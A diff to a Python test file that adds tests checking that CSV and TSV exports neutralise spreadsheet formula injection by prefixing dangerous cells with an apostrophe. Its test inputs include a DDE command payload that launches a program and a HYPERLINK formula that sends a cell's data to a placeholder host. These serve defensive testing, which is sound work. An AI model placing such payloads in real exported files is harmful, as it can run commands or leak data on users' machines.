@@ -1,5 +1,6 @@
 """Tables there and back: what no run touched is as it was, and what cannot be read is refused in a sentence."""
 
+import csv
 import gzip
 import io
 import json
@@ -145,6 +146,80 @@ def test_any_text_survives_csv(rows, form):
 
     there = [tuple(None if pd.isna(cell) else str(cell) for cell in row) for row in frame.itertuples(index=False)]
     assert [tuple(cell or None for cell in row) for row in rows] == there
+
+
+FORMULAS = [
+    *(
+        "=1+1",
+        "+1+1",
+        "-1+1",
+        "@SUM(1)",
+        "\t=1",
+        "\r=1",
+        "\n=1",
+        "\0=1",
+        "\uff1d1+1",
+        "\uff0b1",
+        "\uff0d1+1",
+        "\uff20A1",
+    ),
+    *("=cmd|'/C calc'!A0", '=HYPERLINK("http://x/?"&A1,"y")', "- a list", "+49 30 1234", '=1";=2', "--1"),
+]
+HARMLESS = ["-5", "+5", "-1.5", "-1e-9", "1-2", "'=1", " =1", "a=b", "x@y.z", "", "[-1]", "ü"]
+
+
+def bare(table: Table, form: Format, frame: pd.DataFrame, **how: bool) -> list[list[str]]:
+    """Return the cells that a spreadsheet reads from the table as it is written, every column a new one."""
+    stream = io.BytesIO()
+    write(stream, form, table, frame, list(frame.columns), **how)
+    text = stream.getvalue().decode()
+    return list(csv.reader(io.StringIO(text, newline=""), delimiter="," if form == CSV else "\t"))
+
+
+@pytest.mark.parametrize("form", [CSV, TSV])
+@pytest.mark.parametrize("text", FORMULAS)
+def test_no_cell_is_a_formula(form, text):
+    """Text that a spreadsheet would run gets a mark in front, in a column's name too, and nothing else is changed."""
+    table = Table(pd.DataFrame({text: [text]}))
+
+    assert [[f"'{text}"], [f"'{text}"]] == bare(table, form, table.frame)
+    assert [[text], [text]] == bare(table, form, table.frame, raw=True)
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_text_that_is_no_formula_stays(text):
+    """Numbers are numbers, also where they are written as text."""
+    table = Table(pd.DataFrame({"a": [text]}))
+
+    assert [["a"], [text]] == bare(table, CSV, table.frame)
+
+
+def test_numbers_and_nested_values_stay():
+    """Only text can be a formula."""
+    frame = pd.DataFrame({"a": [-1, 2], "b": [-1.5, None], "c": [["=1"], {"-": 1}]})
+
+    assert [["a", "b", "c"], ["-1", "-1.5", '["=1"]'], ["2", "", '{"-":1}']] == bare(Table(frame), CSV, frame)
+
+
+@pytest.mark.parametrize(("source", "first"), [(CSV, "=1"), (JSONL, "'=1"), (PARQUET, "'=1")])
+def test_cells_of_a_csv_stay_and_those_of_other_tables_are_guarded(source, first):
+    """A file that was CSV gets no new danger in its own cells, and must be the same when it is written again."""
+    table = read(io.BytesIO(written(Table(pd.DataFrame({"own": ["=1"]})), source)), source)
+    frame = table.frame.assign(made=pd.Series(["=2"], dtype="str"))
+
+    there = written(table, CSV, frame, ["made"]).decode()
+
+    assert f"own,made\n{first},'=2\n" == there
+
+
+@pytest.mark.parametrize("form", [JSONL, PARQUET])
+def test_formulas_stay_in_formats_that_no_spreadsheet_runs(form):
+    """JSON and Parquet hold what the model said, byte for byte."""
+    table = Table(pd.DataFrame({"a": FORMULAS}))
+
+    frame = read(io.BytesIO(written(table, form, table.frame, ["a"])), form).frame
+
+    assert FORMULAS == frame["a"].tolist()
 
 
 def test_single_empty_cell_is_still_a_row():
